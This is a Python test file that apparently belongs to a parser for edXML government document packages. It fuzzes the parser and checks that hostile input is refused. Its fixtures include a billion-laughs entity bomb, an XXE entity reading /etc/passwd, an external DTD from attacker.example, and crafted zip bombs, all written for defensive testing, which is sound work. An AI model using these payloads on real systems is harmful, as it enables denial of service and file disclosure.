"""Hostile and broken input: the right EdxmlError, quickly, and nothing else."""

from __future__ import annotations

import base64
import io
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.distribution.edxml.errors import (
    AttachmentTooLarge,
    EdxmlError,
    MalformedPackage,
    PackageTooLarge,
    ZipBomb,
)
from services.distribution.edxml.parse import ParseLimits, inspect_zip, parse

from .conftest import sample

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE edXML [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol9 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">&lol9;</edXML>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"><x>&secret;</x></edXML>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE edXML SYSTEM "http://attacker.example/evil.dtd">
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"/>"""


@pytest.mark.timeout(10)
@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_doctype_and_entities_are_refused(data: bytes) -> None:
    with pytest.raises(MalformedPackage, match="DOCTYPE"):
        parse(data)


@pytest.mark.parametrize("cut", [10, 500, 3000, 9000])
def test_truncated_package_is_malformed(cut: int) -> None:
    with pytest.raises(MalformedPackage):
        parse(sample("edoc_revocation.edxml")[:cut])


@pytest.mark.parametrize(
    "data",
    [b"", b"   ", b"\x00\x01\x02garbage", b"<notxml", b"<a>text</a>", "é".encode("latin-1")],
)
def test_garbage_is_malformed(data: bytes) -> None:
    with pytest.raises(MalformedPackage):
        parse(data)


def test_wrong_root_is_reported() -> None:
    with pytest.raises(MalformedPackage, match="root element"):
        parse(b'<?xml version="1.0"?><html/>')


def test_package_size_limit() -> None:
    with pytest.raises(PackageTooLarge):
        parse(sample("edoc_new.edxml"), limits=ParseLimits(max_package_bytes=100_000))


def test_attachment_size_limit_is_checked_before_decoding() -> None:
    with pytest.raises(AttachmentTooLarge, match="Attachment\\[1\\]"):
        parse(sample("edoc_revocation.edxml"), limits=ParseLimits(max_attachment_bytes=100_000))


def test_total_attachment_limit() -> None:
    data = sample("edoc_revocation.edxml")
    start = data.index(b"<Attachment>")
    end = data.index(b"</Attachment>") + len(b"</Attachment>")
    doubled = data[:end] + data[start:end] + data[end:]
    limits = ParseLimits(max_attachment_bytes=300_000, max_total_attachment_bytes=400_000)
    with pytest.raises(AttachmentTooLarge, match="total"):
        parse(doubled, limits=limits)


def _package_with_attachment(payload: bytes) -> bytes:
    data = sample("edoc_revocation.edxml")
    start = data.index(b'QCVN_102_2016">UEsD') + len(b'QCVN_102_2016">')
    end = data.index(b"</edXML:ContentTransferEncoded>")
    return data[:start] + base64.b64encode(payload) + data[end:]


def _zip_bomb(size: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.bin", b"\0" * size)
    return buffer.getvalue()


@pytest.mark.timeout(10)
def test_zip_bomb_is_refused_by_ratio() -> None:
    package = _package_with_attachment(_zip_bomb(20 * 1024 * 1024))  # ~20 KB, 1000× ratio
    with pytest.raises(ZipBomb, match="expands"):
        parse(package, inspect_zips=True)
    parse(package)  # not inspected unless asked


def test_zip_with_lying_headers_is_caught_while_decompressing() -> None:
    bomb = bytearray(_zip_bomb(1024 * 1024))
    # Shrink the declared size in the central directory (offset 24 of the entry) to 10 bytes.
    central = bomb.rindex(b"PK\x01\x02")
    bomb[central + 24 : central + 28] = (10).to_bytes(4, "little")
    with pytest.raises((ZipBomb, EdxmlError)):
        inspect_zip(bytes(bomb), ParseLimits(max_zip_ratio=50.0))


def test_zip_total_limit() -> None:
    limits = ParseLimits(max_zip_uncompressed_bytes=100_000, max_zip_ratio=10_000)
    with pytest.raises(ZipBomb, match="100000"):
        inspect_zip(_zip_bomb(200_000), limits)


def test_damaged_zip_is_an_invalid_field_issue() -> None:
    package = _package_with_attachment(b"PK\x03\x04 this is not really a zip")
    result = parse(package, inspect_zips=True)
    assert any("zip" in issue.reason for issue in result.issues)


def test_deep_nesting_is_refused() -> None:
    deep = b'<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">' + b"<a>" * 300_000
    with pytest.raises(MalformedPackage):
        parse(deep)


def _small_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("văn bản.txt", "Quyết định số 01/QĐ-UBND".encode() * 20)
    return buffer.getvalue()


# Whole packages, kept small so that many mutations run in a few seconds: the recall with a
# small zip attachment (so the zip guard is fuzzed too), the recovered sample, a status.
_SEEDS = [
    _package_with_attachment(_small_zip()),
    sample("edoc.edxml"),
    sample("status.edxml"),
]


@st.composite
def mutated_samples(draw) -> bytes:
    data = bytearray(draw(st.sampled_from(_SEEDS)))
    for _ in range(draw(st.integers(1, 8))):
        action = draw(st.sampled_from(["flip", "delete", "insert", "truncate"]))
        position = draw(st.integers(0, max(len(data) - 1, 0)))
        if action == "flip" and data:
            data[position] = draw(st.integers(0, 255))
        elif action == "delete":
            del data[position : position + draw(st.integers(1, 50))]
        elif action == "insert":
            data[position:position] = draw(
                st.sampled_from([b"<", b">", b"&", b"<!DOCTYPE x>", b"]]>", b"\xff\xfe", b"<a>"])
            )
        else:
            del data[position:]
    return bytes(data)


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated_samples())
def test_fuzzed_samples_give_a_model_or_an_edxml_error(data: bytes) -> None:
    try:
        result = parse(data, inspect_zips=True)
    except EdxmlError:
        return
    assert result.package is not None
